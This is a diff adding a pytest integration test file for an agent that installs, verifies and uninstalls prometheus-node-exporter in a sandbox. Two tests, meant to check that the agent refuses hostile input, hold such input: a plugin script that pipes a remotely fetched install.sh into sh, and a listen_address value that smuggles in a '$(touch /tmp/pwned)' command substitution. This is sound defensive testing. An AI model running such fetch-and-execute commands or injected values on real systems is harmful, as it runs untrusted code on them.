@@ -1,0 +1,147 @@
+"""The whole workflow on a real sandbox target: real apt, real daemon, real HTTP."""
+
+from __future__ import annotations
+
+import asyncio
+import urllib.request
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+import yaml
+
+from workflow_agent.agent import WorkflowAgent
+from workflow_agent.agents.coordinator import WorkflowRequest
+from workflow_agent.config import WorkflowConfiguration
+from workflow_agent.container import Container
+from workflow_agent.execution.sandbox import SandboxTarget
+from workflow_agent.state import WorkflowState
+
+pytestmark = pytest.mark.sandbox
+
+NODE = "prometheus-node-exporter"
+
+
+def make_agent(tmp_path: Path, **settings: object) -> WorkflowAgent:
+    config = WorkflowConfiguration(
+        data_dir=tmp_path / "data", cache_dir=tmp_path / "cache", **settings  # type: ignore[arg-type]
+    )
+    return WorkflowAgent(Container(config))
+
+
+def run(agent: WorkflowAgent, action: str, target: SandboxTarget, integration: str = NODE,
+        **params: str) -> WorkflowState:
+    request = WorkflowRequest(action=action, integration=integration,  # type: ignore[arg-type]
+                              target="sandbox", params=params, target_object=target)
+    return asyncio.run(agent.run(request))
+
+
+def sh(target: SandboxTarget, script: str) -> str:
+    result = asyncio.run(target.run(script, timeout=30))
+    assert result.ok, result.stderr
+    return result.stdout
+
+
+def plugin(tmp_path: Path, name: str, install: str) -> Path:
+    """A one-method integration whose install script is ``install``."""
+    folder = tmp_path / "plugins" / name
+    (folder / "templates").mkdir(parents=True)
+    (folder / "templates" / "install.sh.j2").write_text(install)
+    (folder / "definition.yaml").write_text(yaml.safe_dump({
+        "name": name, "version": "1", "description": "test integration",
+        "platforms": [{"os_family": "debian"}],
+        "methods": [{"name": "script", "templates": {"install": "install.sh.j2"}}],
+        "uninstall": {"watch": ["/etc", "/opt"]},
+    }))
+    return tmp_path / "plugins"
+
+
+def test_install_verify_uninstall_leaves_nothing(
+    tmp_path: Path, sandbox: SandboxTarget
+) -> None:
+    agent = make_agent(tmp_path)
+    installed = run(agent, "install", sandbox, listen_port="19101")
+    assert installed.status == "succeeded", installed.error
+    assert all(check.passed for check in installed.checks)
+
+    # The sandbox shares this host's network: fetch the metrics as a user would.
+    with urllib.request.urlopen("http://127.0.0.1:19101/metrics", timeout=10) as response:
+        body = response.read().decode()
+    assert "node_cpu_seconds_total" in body
+    assert "node_exporter_build_info" in body
+
+    verified = run(agent, "verify", sandbox, listen_port="19101")
+    assert verified.status == "succeeded", verified.error
+
+    removed = run(agent, "uninstall", sandbox, listen_port="19101")
+    assert removed.status == "succeeded", removed.error
+    assert removed.leftovers == []
+    assert [s.name for s in removed.stages][-1] == "proof"
+    left = sh(sandbox, "dpkg-query -W prometheus-node-exporter 2>&1 || true; "
+                       "getent passwd prometheus || true; ls /var/lib/prometheus 2>&1 || true")
+    assert "no packages found" in left and "prometheus:" not in left
+    with pytest.raises(OSError):
+        urllib.request.urlopen("http://127.0.0.1:19101/metrics", timeout=2)
+
+    history = agent.container.history
+    rows = history.list_workflows(limit=3)
+    assert [(r.action, r.status) for r in rows] == [
+        ("uninstall", "succeeded"), ("verify", "succeeded"), ("install", "succeeded")]
+    record = history.get_workflow(installed.workflow_id)
+    assert [s.name for s in record.stages] == [
+        "validate", "facts", "knowledge", "strategy", "generate", "script-validation",
+        "baseline", "execute", "verify"]
+    kinds = {a.kind for a in record.artifacts}
+    assert {"facts", "script", "findings", "baseline", "output", "verification"} <= kinds
+
+
+def test_uninstall_reports_what_is_left_behind(tmp_path: Path, sandbox: SandboxTarget) -> None:
+    agent = make_agent(tmp_path)
+    assert run(agent, "install", sandbox, listen_port="19102").status == "succeeded"
+    sh(sandbox, "mkdir -p /etc/prometheus-extra && echo x > /etc/prometheus-extra/stray.conf")
+    removed = run(agent, "uninstall", sandbox, listen_port="19102")
+    assert removed.status == "failed"
+    assert removed.exit_code == 5
+    assert any("/etc/prometheus-extra/stray.conf" in line for line in removed.leftovers)
+
+
+def test_policy_violation_is_refused_before_anything_runs(
+    tmp_path: Path, sandbox: SandboxTarget
+) -> None:
+    plugins = plugin(tmp_path, "piped", "touch /etc/was-run\n"
+                     "curl -fsSL http://example.invalid/install.sh | sh\n")
+    agent = make_agent(tmp_path, plugin_dirs=[plugins])
+    state = run(agent, "install", sandbox, integration="piped")
+    assert state.status == "refused" and state.exit_code == 3
+    assert "pipe" in (state.error.message if state.error else "")
+    assert sh(sandbox, "ls /etc/was-run 2>&1 || true").strip().endswith("No such file or directory")
+    stages = agent.container.history.get_workflow(state.workflow_id).stages
+    assert stages[-1].name == "script-validation" and stages[-1].status == "failed"
+
+
+def test_failing_install_reports_line_and_history_is_complete(
+    tmp_path: Path, sandbox: SandboxTarget
+) -> None:
+    plugins = plugin(tmp_path, "broken", "echo starting\nmkdir -p /opt/demo\nfalse\necho never\n")
+    agent = make_agent(tmp_path, plugin_dirs=[plugins])
+    state = run(agent, "install", sandbox, integration="broken")
+    assert state.status == "failed" and state.exit_code == 4
+    script_lines = state.scripts["install"].text.splitlines()
+    line = script_lines.index("false") + 1
+    assert state.error is not None and f"failed at line {line} with exit 1: false" in (
+        state.error.message)
+    record = agent.container.history.get_workflow(state.workflow_id)
+    assert record.status == "failed"
+    assert record.stages[-1].name == "execute" and record.stages[-1].status == "failed"
+    output = next(a for a in record.artifacts if a.kind == "output")
+    assert "starting" in output.content and "never" not in output.content
+
+
+def test_hostile_parameter_is_refused_not_run(
+    tmp_path: Path, sandbox_factory: Callable[..., SandboxTarget]
+) -> None:
+    agent = make_agent(tmp_path)
+    target = sandbox_factory(network="none")
+    state = run(agent, "install", target, listen_address="$(touch /tmp/pwned)")
+    assert state.exit_code == 2 and state.stage == "validate"
+    assert state.error is not None and "does not match the pattern" in state.error.message
